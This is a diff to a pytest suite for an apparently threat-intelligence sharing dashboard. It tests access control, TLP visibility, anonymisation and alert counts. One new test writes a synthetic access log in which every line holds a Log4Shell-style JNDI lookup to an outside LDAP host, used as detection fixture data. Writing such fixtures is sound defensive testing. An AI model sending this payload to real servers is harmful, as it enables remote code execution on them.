@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -56,21 +57,32 @@ def test_basic_and_bearer_work_like_the_apis(client: TestClient, demo: Any) -> N
     assert data["posture"]["open"] == sum(data["posture"]["by_decision"].values())
 
 
+def demo_org() -> str:
+    from mamori.demo import DEMO_ORG
+
+    return DEMO_ORG
+
+
 def test_a_non_admin_sees_only_sharing_and_only_what_tlp_lets_it_read(
     client: TestClient, hub: Hub, demo: Any
 ) -> None:
     token = hub.add_org("reader-rail", "railways", "reader")
     headers = {"Authorization": f"Bearer {token}"}
-    assert client.get("/", headers=headers).status_code == 403
+    landing = client.get("/", headers=headers)  # a non-admin lands on its sharing page
+    assert landing.status_code == 303 and landing.headers["location"] == "/sharing"
     assert client.get("/findings", headers=headers).status_code == 403
     data = client.get("/api/dashboard", headers=headers).json()
     assert data["admin"] is False and "posture" not in data
-    # the demo shared its findings AMBER (no recipients): the reader may not see them, the GREEN
-    # cross-sector alerts it may
+    # the demo shared its findings AMBER to its sector's collection without --to: for railways'
+    # members, so this railways reader sees them; the GREEN cross-sector alerts it sees too
     admin = client.get("/api/dashboard", headers={"Authorization": f"Bearer {demo.token}"}).json()
     assert admin["sharing"]["received"]["railways"]["amber"] > 0
-    assert "railways" not in data["sharing"]["received"]
+    assert data["sharing"]["received"]["railways"] == admin["sharing"]["received"]["railways"]
     assert data["sharing"]["received"]["cross-sector"] == admin["sharing"]["received"]["cross-sector"]
+    # the demo shared its alerts anonymised: no page or API names it to another organisation
+    for path in ("/api/dashboard", "/sharing", "/sharing/objects?direction=received&sector=cross-sector"):
+        assert f">{demo_org()}<" not in client.get(path, headers=headers).text
+        assert f'"{demo_org()}"' not in client.get(path, headers=headers).text
     # another sector's org sees nothing of railways even when shared CLEAR there
     writer = hub.add_org("rail-writer", "railways", "writer")
     org = hub.authenticate(writer)
@@ -106,3 +118,44 @@ def test_drill_down_pages_and_bad_input(client: TestClient, demo: Any) -> None:
     # the TAXII API is still there beside the dashboard
     taxii = client.get("/taxii2/", headers={**headers, "Accept": "application/taxii+json;version=2.1"})
     assert taxii.status_code == 200 and "api_roots" in taxii.json()
+
+
+def test_attacks_count_every_stored_alert_and_speed_explains_a_first_scan(
+    tmp_path: Path, client: TestClient, demo: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Real counts, not a silent page of 1,000 (issue 12): 1,200 real detect alerts."""
+    from typer.testing import CliRunner
+
+    from mamori.cli import app
+    from mamori.dashboard._views import ALERTS_SHOWN
+    from mamori.results import ResultsStore
+
+    speed = client.get("/speed", headers={"Authorization": f"Bearer {demo.token}"}).text
+    baseline = ResultsStore(demo.results).speed()[0].baseline
+    assert baseline > 0 and 'data-metric="published-to-detected-baseline"' in speed
+    assert f"{baseline} findings found by the first scan" in speed
+
+    home = tmp_path / "home"
+    log = tmp_path / "access.log"
+    log.write_text(
+        "".join(
+            f"45.155.205.{i % 250} - - [10/Oct/2024:13:{(i // 60) % 60:02d}:{i % 60:02d} +0000] "
+            f'"GET /?x=${{jndi:ldap://45.155.205.233/a{i}}} HTTP/1.1" 200 12 "-" "curl/8"\n'
+            for i in range(ALERTS_SHOWN + 200)
+        ),
+        encoding="utf-8",
+    )
+    monkeypatch.setenv("MAMORI_HOME", str(home))
+    result = CliRunner().invoke(app, ["detect", str(log), "--format", "json", "-o", str(tmp_path / "a.json")])
+    assert result.exit_code == 1, result.output  # alerts found
+    hub = Hub.open(f"sqlite:///{home / 'hub.sqlite'}")
+    try:
+        token = hub.add_org("operator", "finance", "admin")
+        mine = TestClient(create_app(hub, results=home / "results.sqlite"), follow_redirects=False)
+        headers = {"Authorization": f"Bearer {token}"}
+        data = mine.get("/api/dashboard", headers=headers).json()
+        assert data["alerts"]["total"] == ALERTS_SHOWN + 200
+        page = mine.get("/attacks", headers=headers).text
+        assert f'data-listed="{ALERTS_SHOWN}"' in page and f"of {ALERTS_SHOWN + 200} stored alerts" in page
+    finally:
+        hub.close()
